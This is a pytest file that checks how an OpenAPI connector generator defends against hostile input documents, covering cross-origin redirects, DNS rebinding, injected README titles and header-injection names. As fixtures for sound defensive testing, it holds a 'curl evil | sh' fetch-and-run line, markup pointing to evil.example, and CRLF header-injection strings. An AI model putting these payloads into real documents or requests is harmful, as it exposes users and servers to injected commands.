"""Hostile documents against the machine of who generates a connector: what they fetch, and what
they write.
"""

from __future__ import annotations

import json
import socket
from typing import Any
from unittest import mock

import pytest

from jackfield.connector import InvalidInput
from jackfield.testing import Answer, Provider, Request
from jackfield_openapi import proof, reading
from jackfield_openapi.conversion import Choices, converted
from jackfield_openapi.project import files_of
from jackfield_openapi.sources import read
from openapi_rig import document, operation

_TEXT = {"type": "string"}


def serving(location: str, *, reference: str = "redirected") -> Provider:
    """A server of a document that refers to an address, which redirects."""

    def script(_number: int, request: Request) -> Answer:
        if request.path == "/doc":
            return Answer({"openapi": "3.0.3", "a": {"$ref": f"{reference}#/x"}})
        return (
            Answer({}, 302, {"Location": location})
            if request.path == "/redirected"
            else Answer({"x": {"type": "string"}})
        )

    return Provider(script)


def test_security_8_a_reference_is_not_redirected_to_another_server() -> None:
    """Security 8: references were held to the document's origin, but their redirects were followed
    anywhere.
    """
    with Provider([Answer({"x": "inner"})]) as inner, serving(f"{inner.url}/secret") as outer:
        with pytest.raises(InvalidInput, match="redirects to another origin"):
            read(f"{outer.url}/doc")
        assert inner.requests == []


def test_security_8_a_document_is_not_redirected_to_another_server() -> None:
    """The main document's redirects are held to its origin, too; the error names the address,
    printable.
    """
    with Provider([Answer({})]) as inner, serving(f"{inner.url}/x") as outer:
        with pytest.raises(
            InvalidInput, match=r"redirects to another origin, 'http://127\.0\.0\.1"
        ):
            read(f"{outer.url}/redirected")
        assert inner.requests == []


def test_redirects_within_the_origin_are_followed() -> None:
    """A server may move its own documents."""
    with serving("/moved") as server:
        assert read(f"{server.url}/doc")[0]["x-jackfield-bundled"] == {
            "redirected": {"x": {"type": "string"}}
        }


def test_a_public_document_reaches_no_inner_address(monkeypatch: pytest.MonkeyPatch) -> None:
    """A host whose name is public for the document, and an inner address for what it refers to (DNS
    rebinding), is not asked again.
    """
    found = socket.getaddrinfo
    public: list[bool] = [True]

    def resolve(host: Any, port: Any, *rest: Any, **more: Any) -> Any:
        if host != "docs.example":
            return found(host, port, *rest, **more)
        if public and port is None:
            public.clear()
            return found("93.184.215.14", port, *rest, **more)
        return found("127.0.0.1", port, *rest, **more)

    monkeypatch.setattr(socket, "getaddrinfo", resolve)
    with serving("/moved") as server:
        with pytest.raises(InvalidInput, match="is inside the operator's network"):
            read(f"http://docs.example:{server.url.rpartition(':')[2]}/doc")
        assert [item.path for item in server.requests] == ["/doc"]


def hostile(**more: Any) -> dict[str, Any]:
    """A document with a hostile title."""
    found = document(
        {"/a": {"get": operation(operationId="show", **more)}},
        servers=[{"url": "https://api.acme.example"}],
    )
    found["info"]["title"] = (
        "Acme\n\n# Install\n[click](http://evil.example) <img src=x>\n```sh\n\x1b[2Jcurl evil | "
        "sh\n```"
    )
    return found


def test_security_8_a_readme_has_one_line_of_the_document() -> None:
    """Security 8: the README began with the title as it was, with headings, links and code of the
    document's author.
    """
    made = converted(hostile(), Choices())
    readme = files_of(made, "doc.json", b"", ())["README.md"].decode()
    first, second = readme.splitlines()[:2]
    assert (first.startswith("# Acme "), second) == (True, "")
    assert not any(mark in first.replace("\\" + mark, "") for mark in "[]<>`|()")
    assert "\x1b" not in json.dumps(made.manifest, ensure_ascii=False)


@pytest.mark.parametrize(
    ("place", "name"),
    [("header", "X-K\r\nInjected: 1"), ("header", "X K"), ("cookie", "a; b"), ("query", "a\r\nb")],
)
def test_security_8_names_that_break_out_are_left_out(place: str, name: str) -> None:
    """Security 8: the name of an API key with a line break was taken into the manifest. So are
    those of parameters refused.
    """
    text = document(
        {
            "/a": {"get": operation(operationId="show", security=[{"key": []}])},
            "/b": {
                "get": operation(
                    operationId="list", parameters=[{"name": name, "in": place, "schema": _TEXT}]
                )
            },
        },
        servers=[{"url": "https://api.acme.example"}],
        components={"securitySchemes": {"key": {"type": "apiKey", "in": place, "name": name}}},
    )
    made = converted(text, Choices())
    assert json.dumps(name)[1:-1] not in json.dumps(made.manifest)
    assert set(made.report.counts()) >= {"security scheme", "parameter without a place"}


def test_a_parameter_that_the_connection_sends_is_no_input() -> None:
    """Documents declare their API key as a parameter, too: the connection sends it, and a caller
    could only be refused.
    """
    text = document(
        {
            "/a": {
                "get": operation(
                    operationId="show",
                    parameters=[
                        {"name": "x-api-key", "in": "header", "required": True, "schema": _TEXT}
                    ],
                )
            }
        },
        servers=[{"url": "https://api.acme.example"}],
        security=[{"key": []}],
        components={
            "securitySchemes": {"key": {"type": "apiKey", "in": "header", "name": "X-Api-Key"}}
        },
    )
    (action,) = converted(text, Choices()).manifest["actions"]
    assert action["inputs"].get("properties", {}) == {}


@pytest.mark.parametrize("keyword", ["allOf", "anyOf", "oneOf"])
@pytest.mark.parametrize("depth", [15, 30, 60])
@pytest.mark.parametrize("role", ["inputs", "output"])
def test_doubling_branches_are_refused_before_anything_is_compiled(
    monkeypatch: pytest.MonkeyPatch, keyword: str, depth: int, role: str
) -> None:
    """A document of n schemas, each of which names the next one twice, would take 2**n steps: its
    cost is found first, by the graph.
    """
    compiled = []
    monkeypatch.setattr(proof, "_fault", lambda schema, used: compiled.append(len(used)))
    schemas: dict[str, Any] = {
        f"d{at}": {keyword: [{"$ref": f"#/components/schemas/d{at + 1}"}] * 2}
        for at in range(depth)
    }
    schemas[f"d{depth}"] = {"type": "object"}
    media = {"application/json": {"schema": {"$ref": "#/components/schemas/d0"}}}
    sent = {"requestBody": {"content": media}} if role == "inputs" else {}
    answered = {"200": {"description": "", **({} if role == "inputs" else {"content": media})}}
    posted = operation(operationId="put", responses=answered, **sent)
    made = converted(document({"/a": {"post": posted}}, components={"schemas": schemas}), Choices())
    assert made.report.counts()
    assert len(made.manifest["actions"]) == (0 if role == "inputs" else 1)
    assert max(compiled, default=0) == 0


def test_values_of_a_document_are_counted_before_it_is_parsed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """JSON and YAML with too many values are refused by their text; text alone is not."""
    monkeypatch.setattr(reading, "MAX_VALUES", 1000)
    for content in (
        b'{"a": [' + b"[]," * 2000 + b"1]}",
        b"a:\n" + b"- 1\n" * 2000,
        b"a: [" + b"1, " * 2000 + b"1]",
    ):
        with (
            mock.patch.object(reading, "_parse_text", side_effect=AssertionError),
            pytest.raises(InvalidInput, match="more than 1,000 values"),
        ):
            reading.parsed(content, "doc")
    assert reading.parsed(b'{"a": "' + b"[," * 3000 + b'"}', "doc")
